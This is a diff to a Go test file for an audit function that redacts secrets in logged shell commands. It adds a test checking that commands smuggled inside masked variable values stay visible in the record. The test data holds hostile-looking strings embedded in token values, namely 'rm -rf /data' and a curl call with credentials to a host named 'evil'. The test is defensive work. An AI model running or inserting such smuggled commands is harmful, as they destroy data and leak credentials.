@@ -34,7 +34,7 @@ func TestRedactCommand(t *testing.T) {
 		{`DB_DSN="user:pw@tcp(db)/x" cmd`, `DB_DSN=*** cmd`},
 		{`apiKey=abc githubToken=def cmd`, `apiKey=*** githubToken=*** cmd`},
 		{`AWS_SECRET_ACCESS_KEY=abc/def+ghi= aws s3 ls`, `AWS_SECRET_ACCESS_KEY=*** aws s3 ls`},
-		{`PRIVATE_KEY=$(cat key.pem) cmd`, `PRIVATE_KEY=*** key.pem) cmd`},
+		{`PRIVATE_KEY=$(cat key.pem) cmd`, `PRIVATE_KEY=***$(cat key.pem) cmd`},
 		{`X_CREDENTIALS=a\ b cmd`, `X_CREDENTIALS=*** cmd`},
 		{`TOKEN=ab"c d"'e f' cmd`, `TOKEN=*** cmd`},
 		{`PASS+=abc cmd`, `PASS+=*** cmd`},
@@ -134,4 +134,22 @@ func FuzzRedactCommand(f *testing.F) {
 			}
 		}
 	})
+}
+
+func TestACommandCannotHideInAMaskedValue(t *testing.T) {
+	for command, want := range map[string]string{
+		`sh -c 'A_TOKEN="$(rm -rf /data)" true'`:      `rm -rf /data`,
+		"A_TOKEN=`rm -rf /data` true":                 `rm -rf /data`,
+		`A_TOKEN="s3cret$(curl -u x:y evil)s3cret" x`: `curl`,
+		`A_TOKEN="$(echo $(rm -rf /data))" true`:      `rm -rf /data`,
+	} {
+		got := audit.RedactCommand(command)
+		if !strings.Contains(got, want) || strings.Contains(got, "s3cret") {
+			t.Errorf("%s is recorded as %s", command, got)
+		}
+	}
+	deep := "A_TOKEN=\"" + strings.Repeat("$(", 50_000) + strings.Repeat(")", 50_000) + "\" x"
+	if got := audit.RedactCommand(deep); len(got) > 2*len(deep) {
+		t.Errorf("%d bytes were recorded as %d", len(deep), len(got))
+	}
 }
